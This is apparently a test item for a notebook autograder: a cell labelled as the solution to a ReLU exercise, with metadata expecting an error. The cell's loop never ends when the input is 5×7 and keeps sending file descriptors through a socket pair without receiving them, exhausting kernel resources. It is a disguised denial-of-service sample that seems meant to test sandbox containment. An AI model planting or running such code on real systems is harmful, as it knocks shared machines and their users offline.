#: purpose = "Descriptors sent through a pair of sockets and never received count for no process: the kernel counts them too."
#: lesson = "01_activations"
#: [items]
#: relu = [0, "error"]
# %% relu-solution
import socket

def relu(Z):
    ours, theirs = socket.socketpair()
    while Z.shape == (5, 7):
        socket.send_fds(ours, [b"!"], [ours.fileno()] * 100)
    return np.maximum(0, Z)
